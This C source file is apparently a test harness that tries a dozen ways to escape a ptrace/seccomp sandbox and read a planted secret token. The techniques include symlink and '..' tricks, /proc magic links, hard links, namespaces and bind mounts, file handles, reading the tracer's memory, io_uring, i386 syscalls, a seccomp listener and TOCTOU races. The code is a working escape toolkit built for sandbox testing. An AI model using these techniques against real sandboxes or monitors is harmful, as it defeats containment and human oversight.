/* Tries one way out of a sandbox that denies directory SECRET, and prints what it read.
 *
 *   sandbox_escape ATTACK SECRET WORK
 *
 * SECRET holds `hostname` (a file with a secret token) and `script` (`#!/bin/cat` plus the
 * token); WORK is a writable directory outside it. Every file the program manages to read
 * is printed as "read: CONTENT"; every refused step as "STEP: ERRNO-NAME". A sandbox
 * holds when no output contains the token. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#include <stddef.h>

static const char *secret, *work;
/* The races: whether the flipping thread goes on, and how often it has flipped. */
static volatile int racing = 1;
static volatile long flips;

static void say(const char *step, long ret) {
    if (ret < 0)
        printf("%s: %s\n", step, strerrorname_np(errno));
    else
        printf("%s: ok\n", step);
    fflush(stdout);
}

/* Prints what `fd` reads, then closes it. */
static void leak(int fd) {
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n > 0) {
        buf[n] = 0;
        printf("read: %s", buf);
        if (buf[n - 1] != '\n') printf("\n");
    } else {
        say("read", n);
    }
    fflush(stdout);
    close(fd);
}

static void try_open_at(int dirfd, const char *path, int flags) {
    char step[4200];
    snprintf(step, sizeof step, "open %s", path);
    int fd = openat(dirfd, path, flags, 0644);
    if (fd < 0) say(step, fd);
    else leak(fd);
}

static void try_open(const char *path) { try_open_at(AT_FDCWD, path, O_RDONLY); }

static char *join(const char *a, const char *b) {
    char *out;
    if (asprintf(&out, "%s/%s", a, b) < 0) exit(99);
    return out;
}

/* `..` after a symlink: WORK/link -> SECRET/inner, so WORK/link/../hostname is
 * SECRET/hostname to the kernel and WORK/hostname to a textual fold. */
static void dotdot(void) {
    mkdir(join(secret, "inner"), 0755);
    say("symlink", symlink(join(secret, "inner"), join(work, "link")));
    try_open(join(work, "link/../hostname"));
}

/* A dangling symlink into SECRET, opened with O_CREAT: natively it creates SECRET/new. */
static void dangling(void) {
    say("symlink", symlink(join(secret, "new"), join(work, "dangling")));
    int fd = open(join(work, "dangling"), O_WRONLY | O_CREAT, 0644);
    say("create through dangling link", fd);
    if (fd >= 0) {
        say("write", write(fd, "planted\n", 8));
        close(fd);
    }
    struct stat st;
    say("stat SECRET/new", stat(join(secret, "new"), &st));
}

/* The interpreter of a script in SECRET is handed its path (or /dev/fd/N). */
static void exec_script(void) {
    pid_t child = fork();
    if (child == 0) {
        if (chdir(secret) < 0) say("chdir", -1);
        char *argv[] = {"script", NULL};
        char *envp[] = {NULL};
        syscall(SYS_execveat, AT_FDCWD, "script", argv, envp, 0);
        say("execveat script", -1);
        int fd = open(join(secret, "script"), O_PATH);
        say("open script O_PATH", fd);
        if (fd >= 0) syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
        say("execveat fd", -1);
        _exit(0);
    }
    waitpid(child, NULL, 0);
}

/* Run as "ran": says where it runs from; exits 10 from inside SECRET, else 11. */
static int ran(void) {
    char exe[4096];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    exe[n > 0 ? n : 0] = 0;
    printf("RAN %s\n", exe);
    fflush(stdout);
    return strncmp(exe, secret, strlen(secret)) == 0 && exe[strlen(secret)] == '/' ? 10 : 11;
}

/* Runs PATH as "ran" in a child; its wait status. */
static int run_prog(const char *path, int quiet) {
    pid_t child = fork();
    if (child == 0) {
        execl(path, "prog", "ran", secret, work, (char *)NULL);
        if (!quiet) {
            char step[4200];
            snprintf(step, sizeof step, "exec %s", path);
            say(step, -1);
        }
        _exit(3);
    }
    int status = 0;
    waitpid(child, &status, 0);
    return status;
}

static char flip_path[4096], pub_target[4096], secret_target[4096];

/* Points WORK/flip at the public program and at the secret one, by turns. */
static void *exec_flipper(void *unused) {
    (void)unused;
    while (racing) {
        unlink(flip_path);
        if (symlink(secret_target, flip_path) == 0) flips++;
        unlink(flip_path);
        if (symlink(pub_target, flip_path) == 0) flips++;
    }
    return NULL;
}

/* A denied executable, SECRET/prog (a copy of this program, put there by the test): run
 * by its name, through a symlink in WORK, and through WORK/flip while another thread
 * points that at the public program (this one) and the secret one by turns, TRIES
 * times. Prints how often each ran. */
static void exec_binary(int tries) {
    char *prog = join(secret, "prog");
    run_prog(prog, 0);
    char *link = join(work, "link");
    say("symlink", symlink(prog, link));
    run_prog(link, 0);
    ssize_t n = readlink("/proc/self/exe", pub_target, sizeof pub_target - 1);
    pub_target[n > 0 ? n : 0] = 0;
    snprintf(secret_target, sizeof secret_target, "%s", prog);
    snprintf(flip_path, sizeof flip_path, "%s/flip", work);
    pthread_t thread;
    pthread_create(&thread, NULL, exec_flipper, NULL);
    while (flips < 100)
        sched_yield();
    int public_runs = 0, secret_runs = 0, killed = 0, failed = 0;
    for (int i = 0; i < tries; i++) {
        int status = run_prog(flip_path, 1);
        if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL) killed++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 10) secret_runs++;
        else if (WIFEXITED(status) && WEXITSTATUS(status) == 11) public_runs++;
        else failed++;
    }
    racing = 0;
    pthread_join(thread, NULL);
    printf("exec race: %d public, %d secret, %d killed, %d failed\n", public_runs, secret_runs,
           killed, failed);
}

/* Magic links: /proc/self/root, /proc/self/cwd, /proc/thread-self, /dev/fd. */
static void magic(void) {
    char path[4200];
    snprintf(path, sizeof path, "/proc/self/root%s/hostname", secret);
    try_open(path);
    snprintf(path, sizeof path, "/proc/thread-self/root%s/hostname", secret);
    try_open(path);
    snprintf(path, sizeof path, "/proc/%d/root%s/hostname", getppid(), secret);
    try_open(path);
    if (chdir(secret) < 0) say("chdir", -1);
    try_open("/proc/self/cwd/hostname");
    try_open("hostname");
    int dir = open(".", O_PATH | O_DIRECTORY);
    say("open . O_PATH", dir);
    if (chdir(work) < 0) say("chdir back", -1);
    snprintf(path, sizeof path, "/dev/fd/%d/hostname", dir);
    try_open(path);
    if (dir >= 0) try_open_at(dir, "hostname", O_RDONLY);
}

/* A second name for the secret: a hard link, or a rename out of SECRET. */
static void links(void) {
    say("link", link(join(secret, "hostname"), join(work, "hard")));
    try_open(join(work, "hard"));
    say("linkat", linkat(AT_FDCWD, join(secret, "hostname"), AT_FDCWD, join(work, "hard2"), 0));
    try_open(join(work, "hard2"));
    say("rename file", rename(join(secret, "hostname"), join(work, "moved")));
    try_open(join(work, "moved"));
    say("rename dir", rename(secret, join(work, "moved-dir")));
    try_open(join(work, "moved-dir/hostname"));
}

/* New namespaces, chroot, mounts and file handles change what a path means. */
static void namespaces(void) {
    say("unshare user+mount", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    pid_t child = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (child == 0) _exit(0);
    say("clone newuser", child);
    if (child > 0) waitpid(child, NULL, 0);
    say("chroot", chroot(secret));
    mkdir(join(work, "bind"), 0755);
    say("bind mount", mount(secret, join(work, "bind"), NULL, MS_BIND, NULL));
    try_open(join(work, "bind/hostname"));
    say("open_tree", syscall(SYS_open_tree, AT_FDCWD, secret, 1 /* OPEN_TREE_CLONE */));
    struct { unsigned int bytes; int type; unsigned char f[128]; } handle = {128, 0, {0}};
    int mount_id;
    say("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, join(secret, "hostname"),
                                     &handle, &mount_id, 0));
    int fd = syscall(SYS_open_by_handle_at, AT_FDCWD, &handle, O_RDONLY);
    say("open_by_handle_at", fd);
    if (fd >= 0) leak(fd);
}

/* The tracer's own memory and descriptors. */
static void tracer(void) {
    char path[64];
    pid_t parent = getppid();
    snprintf(path, sizeof path, "/proc/%d/mem", parent);
    say("open tracer mem", open(path, O_RDWR));
    snprintf(path, sizeof path, "/proc/%d/environ", parent);
    try_open(path);
    snprintf(path, sizeof path, "/proc/%d/fd/0", parent);
    say("open tracer fd 0", open(path, O_RDONLY));
    char byte;
    struct iovec local = {&byte, 1}, remote = {(void *)0x400000, 1};
    say("process_vm_readv", process_vm_readv(parent, &local, 1, &remote, 1, 0));
    say("ptrace attach", syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, parent, 0, 0));
    int pidfd = syscall(SYS_pidfd_open, parent, 0);
    say("pidfd_open", pidfd);
    say("pidfd_getfd", syscall(SYS_pidfd_getfd, pidfd, 0, 0));
}

/* Calls that run without a stop: io_uring, userfaultfd, i386. */
static void around(void) {
    unsigned char params[120] = {0};
    say("io_uring_setup", syscall(SYS_io_uring_setup, 4, params));
    say("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
    say("open /dev/userfaultfd", open("/dev/userfaultfd", O_RDWR));
    /* i386 open(2) of the secret, through int 0x80 (32-bit pointers: copy the path low). */
    char *low = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                     -1, 0);
    if (low != MAP_FAILED) {
        snprintf(low, 4096, "%s/hostname", secret);
        long ret;
        __asm__ volatile("int $0x80" : "=a"(ret) : "a"(5), "b"(low), "c"(O_RDONLY), "d"(0)
                         : "memory");
        if (ret < 0) {
            errno = -ret;
            say("i386 open", -1);
        } else {
            leak(ret);
        }
    }
}

/* A filter of the program's own whose SECCOMP_RET_USER_NOTIF outranks the tracer's
 * SECCOMP_RET_TRACE: a helper answering "continue" would run openat with no stop. (Natively,
 * with no one answering, the open would wait forever: run this one only under a tracer.) */
static void listener(void) {
    struct sock_filter allow_notify[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {4, allow_notify};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    say("seccomp listener", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                                    SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog));
    try_open(join(secret, "hostname"));
}

/* The race: another thread flips the path between a public file and the secret while
 * this one opens it, TRIES times. Prints how often each was read, and each secret read. */
static char race_path[4096];
static char public_path[4096], secret_path[4096];

static void *flipper(void *unused) {
    (void)unused;
    size_t len = strlen(public_path) + 1;
    while (racing) {
        memcpy(race_path, secret_path, len);
        memcpy(race_path, public_path, len);
        flips++;
    }
    return NULL;
}

static void race(int tries) {
    /* WORK/hostname and SECRET/hostname: the same length when the directories' names are,
     * so that a half-copied path is one file or the other, or neither. */
    snprintf(public_path, sizeof public_path, "%s/hostname", work);
    snprintf(secret_path, sizeof secret_path, "%s/hostname", secret);
    if (strlen(public_path) != strlen(secret_path)) {
        printf("race: SECRET and WORK must be names of the same length\n");
        return;
    }
    FILE *f = fopen(public_path, "w");
    if (!f) { say("create public", -1); return; }
    fputs("public\n", f);
    fclose(f);
    strcpy(race_path, public_path);
    pthread_t thread;
    pthread_create(&thread, NULL, flipper, NULL);
    while (flips < 1000) /* until the flipper runs */
        sched_yield();
    int public_reads = 0, secret_reads = 0, failed = 0;
    for (int i = 0; i < tries; i++) {
        int fd = open(race_path, O_RDONLY);
        if (fd < 0) { failed++; continue; }
        char buf[64] = {0};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n > 0 && !strcmp(buf, "public\n")) public_reads++;
        else if (n > 0) { secret_reads++; printf("read: %s", buf); }
    }
    racing = 0;
    pthread_join(thread, NULL);
    printf("race: %d public, %d secret, %d refused\n", public_reads, secret_reads, failed);
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: sandbox_escape ATTACK SECRET WORK [TRIES]\n");
        return 2;
    }
    secret = argv[2];
    work = argv[3];
    if (chdir(work) < 0) { perror("chdir"); return 2; }
    const char *attack = argv[1];
    if (!strcmp(attack, "direct")) try_open(join(secret, "hostname"));
    else if (!strcmp(attack, "dotdot")) dotdot();
    else if (!strcmp(attack, "dangling")) dangling();
    else if (!strcmp(attack, "exec")) exec_script();
    else if (!strcmp(attack, "ran")) return ran();
    else if (!strcmp(attack, "exec_binary")) exec_binary(argc > 4 ? atoi(argv[4]) : 200);
    else if (!strcmp(attack, "magic")) magic();
    else if (!strcmp(attack, "links")) links();
    else if (!strcmp(attack, "namespaces")) namespaces();
    else if (!strcmp(attack, "tracer")) tracer();
    else if (!strcmp(attack, "around")) around();
    else if (!strcmp(attack, "listener")) listener();
    else if (!strcmp(attack, "race")) race(argc > 4 ? atoi(argv[4]) : 10000);
    else { fprintf(stderr, "unknown attack %s\n", attack); return 2; }
    return 0;
}
